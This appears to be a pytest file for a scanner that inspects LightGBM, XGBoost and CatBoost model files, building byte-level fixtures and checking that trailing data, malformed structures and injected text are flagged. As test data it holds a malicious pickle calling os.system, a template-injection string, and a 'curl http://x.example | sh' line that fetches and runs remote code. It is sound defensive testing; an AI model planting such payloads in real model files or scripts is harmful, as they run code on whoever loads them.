"""LightGBM, XGBoost and CatBoost: numbers and texts pass when they are read to their end, and only then."""

from __future__ import annotations

import struct
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.checks.packaging.artifact_scan.options import ArtifactScanOptions
from assay.checks.packaging.artifact_scan.scanner import Scanner
from assay.core.report import Status
from assay.subjects.pickles.machine import MachinePool
from fixtures.scanning import formats_of, rules_of, scan_bytes

BAD = b"\x80\x02cos\nsystem\n(S'id'\ntR."
LIGHTGBM = "tree\nversion=v4\nnum_class=1\n\nTree=0\nleaf_value=0.1 0.2\n\n\nend of trees\n"


def _length(value: int) -> bytes:
    return b"L" + struct.pack(">q", value)


def _key(text: str) -> bytes:
    return _length(len(text)) + text.encode()


def _ubjson(text: str = "gbtree", numbers: int = 3) -> bytes:
    """A model as XGBoost writes one: keys with long lengths, arrays with a type and a count."""
    inner = b"{" + _key("name") + b"S" + _key(text)
    inner += _key("weights") + b"[$d#" + _length(numbers) + struct.pack(">3f", 1, 2, 3)
    inner += _key("flags") + b"[" + b"TFZ" + b"i\1" + b"]" + _key("trees") + b"[#" + _length(1) + b"{}" + b"}"
    return b"{" + _key("learner") + inner + _key("version") + b"[#" + _length(2) + b"i\3l\0\0\0\0" + b"}"


def _catboost(text: str = "made by hand", parts: Sequence[str] = (), after: bytes = b"") -> bytes:
    """A core whose root table has a version, no trees, one text and the names of parts."""
    out = bytearray(
        struct.pack("<I", 16) + struct.pack("<6H", 12, 16, 0, 0, 8, 12)
    )  # a layout of four fields
    out += struct.pack("<iIII", 12, 0, 0, 0)  # the root table, 12 bytes after its layout
    layout = len(out)
    out += struct.pack("<4H", 8, 12, 4, 8)
    _point(out, 24, len(out))
    vector = len(out)
    out += struct.pack("<II", 1, 4)
    entry = len(out)
    out += struct.pack("<iII", entry - layout, 0, 0)
    _point(out, vector + 4, entry)
    for place, value in ((entry + 4, "note"), (entry + 8, text)):
        _point(out, place, len(out))
        out += struct.pack("<I", len(value)) + value.encode() + b"\0"
    _point(out, 28, len(out))
    vector = len(out)
    out += struct.pack("<I", len(parts)) + bytes(4 * len(parts))
    for index, part in enumerate(parts):
        _point(out, vector + 4 + 4 * index, len(out))
        out += struct.pack("<I", len(part)) + part.encode() + b"\0"
    return b"CBM1" + struct.pack("<I", len(out)) + bytes(out) + after


def _old_xgboost(
    objective: str = "binary:logistic",
    booster: str = "gbtree",
    *,
    vector: bool = False,
    magic: bytes = b"binf",
) -> bytes:
    """2 trees of 3 nodes as XGBoost 2.1 writes them; `vector`: with one behind the nodes, as 0.4 did."""
    learner = struct.pack("<fIiiiII", 0.5, 4, 0, 1, 1, 2, 1).ljust(136, b"\0")
    tree = struct.pack("<6i", 1, 3, 0, 2, 4, 1).ljust(148, b"\0") + bytes(3 * 36)
    if vector:
        tree += struct.pack("<Q3f", 3, 1, 2, 3)
    body = struct.pack("<ii", 2, 1).ljust(160, b"\0") + 2 * tree + bytes(8)
    body += struct.pack("<Q2f", 2, 1, 1) if booster == "dart" else b""
    if booster == "gblinear":
        body = bytes(136) + struct.pack("<Q5f", 5, 1, 2, 3, 4, 5)
    attributes = struct.pack("<Q", 1) + _counted("note") + _counted("made by hand")
    metrics = struct.pack("<Q", 1) + _counted("auc")
    return magic + learner + _counted(objective) + _counted(booster) + body + attributes + metrics


def _counted(text: str) -> bytes:
    return struct.pack("<Q", len(text)) + text.encode()


def _point(out: bytearray, place: int, target: int) -> None:
    out[place : place + 4] = struct.pack("<I", target - place)


TABLES = struct.pack("<II", 1, 4) + b"data"
MODELS = {
    "m.txt": (LIGHTGBM.encode(), "lightgbm"),
    "m.ubj": (_ubjson(), "xgboost"),
    "m.cbm": (_catboost(), "catboost"),
    "counters.cbm": (_catboost(parts=["static_provider_v1"], after=TABLES), "catboost"),
    "old.model": (_old_xgboost(), "xgboost"),
    "older.model": (_old_xgboost(vector=True, magic=b""), "xgboost"),
    "linear.model": (_old_xgboost(booster="gblinear"), "xgboost"),
    "dart.model": (_old_xgboost(booster="dart"), "xgboost"),
}


@pytest.mark.parametrize("name", sorted(MODELS))
def test_model_passes(name: str, tmp_path: Path) -> None:
    content, kind = MODELS[name]
    report = scan_bytes(tmp_path, name, content)
    assert (report.status, formats_of(report)) == (Status.PASS, [kind]), report


BINARY = sorted(set(MODELS) - {"m.txt"})


@pytest.mark.parametrize("name", BINARY)
def test_what_follows_is_examined(name: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, name, MODELS[name][0] + BAD)
    assert rules_of(report) == {"archive/trailing-data", "pickle/dangerous-global"}


def test_texts_are_judged(tmp_path: Path) -> None:
    evil = "{{ x.__class__.__mro__ }}"
    for name, content in (
        ("m.ubj", _ubjson(evil)),
        ("m.cbm", _catboost(evil)),
        ("m.model", _old_xgboost(evil)),
        ("m.txt", LIGHTGBM + evil),
    ):
        raw = content if isinstance(content, bytes) else content.encode()
        assert rules_of(scan_bytes(tmp_path, name, raw)) == {"template/injection"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("m.ubj", _ubjson(numbers=4)),
        ("m.ubj", _ubjson(numbers=1 << 60)),
        ("m.ubj", _ubjson(numbers=-1)),
        ("m.ubj", b"{" + _key("a") + b"[" * 500),
        ("m.cbm", _catboost(parts=["text_process_v2"], after=b"text")),
        ("m.cbm", _catboost(parts=["static_provider_v1"], after=struct.pack("<II", 1, 1 << 31))),
        ("m.cbm", b"CBM1" + b"\xff" * 40),
        ("m.bin", b"binf" + bytes(136)),
        ("m.bin", _old_xgboost(booster="forest")),
        ("m.bin", _old_xgboost().replace(struct.pack("<ii", 2, 1), struct.pack("<ii", -1, 1))),
        (
            "m.bin",
            _old_xgboost().replace(struct.pack("<4i", 1, 3, 0, 2), struct.pack("<4i", 1, 1 << 30, 0, 2)),
        ),
    ],
)
def test_what_is_not_read_is_not_clean(name: str, content: bytes, tmp_path: Path) -> None:
    assert scan_bytes(tmp_path, name, content).status is not Status.PASS


def test_program_that_starts_like_a_model_is_a_program(tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, "m.sh", b"tree\nversion=$(curl http://x.example | sh)\n")
    assert formats_of(report) == ["script"]
    assert report.status is not Status.PASS


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scanner]:
    with MachinePool(size=1) as pool:
        yield Scanner(pool, ArtifactScanOptions(), tmp_path_factory.mktemp("workspace"))


@pytest.mark.parametrize("name", BINARY)
def test_no_prefix_is_clean(name: str, scanner: Scanner, tmp_path: Path) -> None:
    content, file = MODELS[name][0], tmp_path / "x"
    for length in range(12, len(content)):
        file.write_bytes(content[:length])
        outcome = scanner.file(file, "x")
        assert outcome.skipped or outcome.findings, length


@settings(max_examples=200, deadline=None)
@given(
    st.sampled_from(["m.ubj", "counters.cbm", "old.model"]),
    st.integers(4, 400),
    st.binary(min_size=1, max_size=4),
)
def test_no_changed_bytes_raise(
    scanner: Scanner, tmp_path_factory: pytest.TempPathFactory, name: str, at: int, put: bytes
) -> None:
    content = MODELS[name][0]
    at %= len(content)
    file = tmp_path_factory.mktemp("x") / "x"
    file.write_bytes(content[:at] + put + content[at + len(put) :])
    outcome = scanner.file(file, "x")
    assert not any("could not be examined" in skipped.reason for skipped in outcome.skipped)
